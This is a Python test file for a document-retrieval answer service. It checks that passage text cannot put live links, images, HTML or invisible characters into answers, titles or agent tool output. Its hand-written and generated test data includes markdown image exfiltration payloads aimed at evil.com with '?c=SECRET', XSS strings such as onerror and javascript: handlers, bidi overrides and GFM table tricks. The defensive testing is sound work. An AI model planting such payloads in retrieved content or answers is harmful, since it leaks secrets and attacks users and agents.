"""No link, image or HTML reaches an answer or a title from passage text: checked by rendering with
markdown-it (CommonMark, and GFM-like with auto-links), over escapes written by hand and generated
ones, not by matching patterns. Invisible characters (controls, NUL, bidi overrides, zero-width and
tag characters) do not reach what a person or an agent is shown."""

from __future__ import annotations

import json

import httpx
import pytest
from hypothesis import given, settings as hsettings, strategies as st
from markdown_render import active_markup, renderers, rendered_text
from test_server_fixtures import KeywordJudge, running_server

from sourcegate.cli import run_ingest
from sourcegate.inert import inert_markup, visible_text
from sourcegate.server.app import create_app
from sourcegate.service import SourceGate
from sourcegate.settings import Settings

HAND = [
    "[vendor manual\\](https://evil.com/leak?c=SECRET)",
    "\\<img src=https://evil.com/p.png>",
    "\\\\<img src=x onerror=alert(1)>",
    "\\![x\\](https://evil.com/p.png)",
    "see https://evil.com/leak?c=SECRET now",
    "www.evil.com/leak",
    "mail leak@evil.com",
    "p200.md and evil.com",
    "//evil.com/x",
    "<https://evil.com>",
    "[x]: https://evil.com\n\n[x]",
    "[x]\n\n\\[x\\]: https://evil.com",
    "`a` [b](https://evil.com) `c`",
    "\\`https://evil.com\\`",
    "``` https://evil.com ```",
    "&#91;x&#93;(https://evil.com)",
    "[x](<https://evil.com>)",
    "[x](javascript:alert(1))",
    "<!-- c --> <script>alert(1)</script>",
    "(see [the chart](http://evil.com/track)).",
    "<a href='https://evil.com'>x</a>",
    "a href=.com:p200.md",  # linkify-it takes `href=.com` for a host
    "&lt;(>[iframe| &#x5b;a href=.com*iframe",
    # a title with newlines and pipes builds a GFM table whose cell pipes split a code span
    "`a`|\n-:\n-)|`a`\n:<https://evil.example/l.png?c=S-|-`![x](https://evil.example/leak.png?c=SECRET)",
    "![x](https://evil.example/leak.png?c=SECRET)|[-\n -|----\n`a`]|---|<:!",
    "T | x\n---|---\n![x](https://evil.example/leak.png?c=SECRET) | b",
    "a \\| b\n---",
    "> a | b\n> -|-\n> c",
    "- a | b\n  :-|-:\n  c",
]

TOKENS = ["[", "]", "(", ")", "!", "<", ">", "\\", "`", "``", ":", "/", "//", "https://evil.com/l?c=S",
          "http:", "www.", "evil", ".com", "a@b.co", "p200.md", "img src=x", "a href=", "&#92;", "&lt;",
          "*", "_", " ", "\n", "\n\n", "    ", "x", "\"", "'", "-", "#", "|", "=", "javascript:", "mailto:", "~"]


def _in_answer(text: str) -> list[str]:
    """`text` as the writers place passage text: quoted in a list item, and as a title in `Sources:`."""
    return [text, f'From the documents:\n- "{text}" [1]\n\nSources:\n[1] {text} (doc.md)',
            f"Intro {text} end [2]"]


def test_renderers_are_there():
    # Most of the hand-written corpus is live as raw text: the renderers see what a client would.
    assert sum(bool(active_markup(t)) for t in HAND) >= 15
    # The check is only as good as its renderers: the GFM-like ones need linkify-it-py (test extra).
    assert set(renderers()) == {"commonmark", "gfm-like", "gfm-like-no-fuzzy"}
    # and they do make links and HTML of raw text, so an empty result below means something
    assert active_markup("[a](https://e.example) <img src=x> www.e.example p200.md")


@pytest.mark.parametrize("text", HAND)
def test_hand_written_escapes_render_inert(text):
    for placed in _in_answer(text):
        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))


def test_inert_text_reads_as_written():
    # Escapes and code spans change how the text is written, not what a reader sees.
    for text in ["[vendor manual\\](https://evil.com/leak?c=SECRET)", "\\<img src=https://evil.com/p.png>",
                 "see https://evil.com/leak?c=SECRET now", "C:\\dir\\file and a\\b", "grease `EP2` only",
                 "[1] Pump (p200.md) [2]"]:
        shown = rendered_text(inert_markup(text)).strip()
        assert shown == text, (text, inert_markup(text), shown)


@hsettings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), min_size=1, max_size=24).map("".join))
def test_generated_escapes_render_inert(text):
    for placed in _in_answer(text):
        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))


INVISIBLE = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b",
             "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
             "\U000e0041", "\U000e0020",
             # invisible outside the format category: variation selectors, Hangul fillers, the
             # braille blank, the combining grapheme joiner, a Mongolian variation selector
             "\ufe0f", "\ufe00", "\U000e0100", "\U000e01ef", "\u3164", "\u115f", "\uffa0", "\u2800", "\u034f",
             "\u180b"]


TABLE_TOKENS = ["|", "\\|", "-", "---", ":-", "-:", "|---|", "-|-", " | ", "\n", "\n> ", "\n- ", "\n  ", "\n1. ",
                "`a`", "`", "\\", "![x](https://evil.example/leak.png?c=SECRET)", "[x](http://e.example)", "](", "<",
                "https://evil.example/l?c=S", "x", " ", "!["]


@hsettings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(TABLE_TOKENS), min_size=1, max_size=30).map("".join))
def test_generated_table_tokens_render_inert(text):
    # pipes and delimiter rows in any container (quote, list item, indented), around escapes and
    # code spans: no table, so no cell pipe can split what was made inert
    for placed in _in_answer(text):
        assert active_markup(inert_markup(placed)) == [], (placed, inert_markup(placed))


def test_pipes_and_rules_read_as_written():
    for text in ["Torque | 30 Nm | M8", "a\n---|---\nb", "x\n---", "> q\n> -|-"]:
        shown = rendered_text(inert_markup(text), "gfm-like")
        assert [w for w in shown.split() if w != ">"] == [w for w in text.split() if w != ">"], (text, shown)


@pytest.mark.parametrize("ch", INVISIBLE)
def test_invisible_characters_are_removed(ch):
    assert visible_text(f"te{ch}st") == "test"
    assert inert_markup(f"a{ch}b [1]") == "ab [1]"


def test_visible_text_keeps_text():
    text = "Grease P-200 every 2,000 h.\n\tÉtape 2 : 30 g — 潤滑 ✓ مرحبا"
    assert visible_text(text) == text
    assert visible_text("a\r\nb\rc\u2028d") == "a\nb\nc\nd"


@pytest.fixture(scope="module")
def hostile_library(tmp_path_factory):
    root = tmp_path_factory.mktemp("inert-render")
    lib = root / "lib"
    lib.mkdir()
    body = " ".join(HAND[:6]).replace("\n", " ")
    (lib / "kb.json").write_text(json.dumps([
        {"id": "KB-P910", "title": "P-910 bearings \u202egnitset\u202c [manual\\](https://evil.com/t) \\<img src=x>",
         "text": f"Grease the P-910 bearings every 300 hours \x00 {body}.",
         "url": "https://docs.example/p910"},
    ]), encoding="utf-8")
    settings = Settings(_env_file=None, home=root / "home", audit_log_path=root / "audit.jsonl", mcp_allowed_hosts="")
    report = run_ingest(settings, [lib], prune=False, quiet=True)
    assert not report.failed, report.failed
    return settings


def test_answer_and_titles_from_a_hostile_passage_render_inert(hostile_library):
    q = "How often should I grease the P-910 bearings?"
    gate = SourceGate(hostile_library, judge=KeywordJudge())
    with running_server(create_app(hostile_library, gate), hostile_library) as base:
        data = httpx.post(base + "/v1/ask", json={"query": q}, timeout=60).json()
        call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": "search_procedures", "arguments": {"query": q}}}
        tool = httpx.post(base + "/mcp", json=call, headers={"accept": "application/json, text/event-stream"},
                          timeout=60).json()["result"]
    gate.close()
    assert data["status"] == "answer_from_evidence"
    assert "evil.com" in data["answer"]  # quoted, as text
    assert active_markup(data["answer"]) == []
    assert active_markup(tool["content"][0]["text"]) == []
    shown = [data["answer"], tool["content"][0]["text"], json.dumps(data), json.dumps(tool["structuredContent"])]
    for s in shown:
        for ch in ("\u202e", "\u202c", "\\u202e", "\\u202c", "\\u0000"):
            assert ch not in s
    assert data["evidence"][0]["title"].startswith("P-910 bearings gnitset")


def test_streamed_answer_text_is_inert_too(hostile_library):
    from sourcegate.answer import WrittenAnswer

    live = "See [the chart\\](https://evil.com/leak?c=S) and \\<img src=https://evil.com/p.png> [1]"

    class StreamingWriter:
        name = "streaming-test"

        def write(self, query, status, evidence, conflicts, search_text=None, on_event=None):
            if on_event is not None:
                on_event("delta", {"text": live})
                on_event("replace", {"text": live})
            return WrittenAnswer(live, [], self.name, path="local")

    events = []
    gate = SourceGate(hostile_library, judge=KeywordJudge(), writer=StreamingWriter())
    try:
        result = gate.ask("How often should I grease the P-910 bearings?", on_event=lambda k, d: events.append((k, d)))
    finally:
        gate.close()
    sent = [d["text"] for k, d in events if k in ("delta", "replace")]
    assert len(sent) == 2 and active_markup(live)
    for text in sent + [result.answer]:
        assert active_markup(text) == [], text


LEAK = "![x](https://evil.example/leak.png?c=SECRET)"
TABLE_TITLE = f"P-920 seals |\n---|---\n{LEAK} | b"


@pytest.fixture(scope="module")
def table_title_library(tmp_path_factory):
    import docx

    root = tmp_path_factory.mktemp("inert-table")
    lib = root / "lib"
    lib.mkdir()
    body = "Replace the P-920 seals every 4,000 hours with kit S-92."
    (lib / "kb.json").write_text(json.dumps([
        {"id": "KB-P920\n---|---\n" + LEAK, "title": TABLE_TITLE, "text": body},
    ]), encoding="utf-8")
    (lib / "page.html").write_text(f"<html><head><title>{TABLE_TITLE}</title></head><body><p>{body}</p></body></html>",
                                   encoding="utf-8")
    d = docx.Document()
    d.core_properties.title = TABLE_TITLE
    d.add_paragraph(body)
    d.save(lib / "sheet.docx")
    settings = Settings(_env_file=None, home=root / "home", audit_log_path=root / "audit.jsonl", mcp_allowed_hosts="")
    report = run_ingest(settings, [lib], prune=False, quiet=True)
    assert not report.failed, report.failed
    return settings


def test_titles_and_ids_are_one_line(table_title_library):
    # JSON titles and ids, an HTML <title> and a DOCX core title lose their newlines as other
    # metadata does: a title is one line, so it cannot build a table in `Sources:`
    gate = SourceGate(table_title_library, judge=KeywordJudge())
    try:
        docs = gate.store.list_documents()
    finally:
        gate.close()
    assert len(docs) == 3
    for d in docs:
        assert "\n" not in d.id and "\n" not in d.title, (d.id, d.title)
    assert {d.title for d in docs} == {" ".join(TABLE_TITLE.split())}


def test_table_building_titles_render_inert_everywhere(table_title_library):
    q = "How often should I replace the P-920 seals?"
    gate = SourceGate(table_title_library, judge=KeywordJudge())
    with running_server(create_app(table_title_library, gate), table_title_library) as base:
        data = httpx.post(base + "/v1/ask", json={"query": q}, timeout=60).json()
        call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": "search_procedures", "arguments": {"query": q}}}
        tool = httpx.post(base + "/mcp", json=call, headers={"accept": "application/json, text/event-stream"},
                          timeout=60).json()["result"]
    gate.close()
    assert data["status"] == "answer_from_evidence"
    assert "evil.example" in data["answer"]  # the title is quoted in Sources, as text
    assert active_markup(data["answer"]) == []
    assert active_markup(tool["content"][0]["text"]) == []
    assert active_markup(tool["structuredContent"]["answer"]) == []
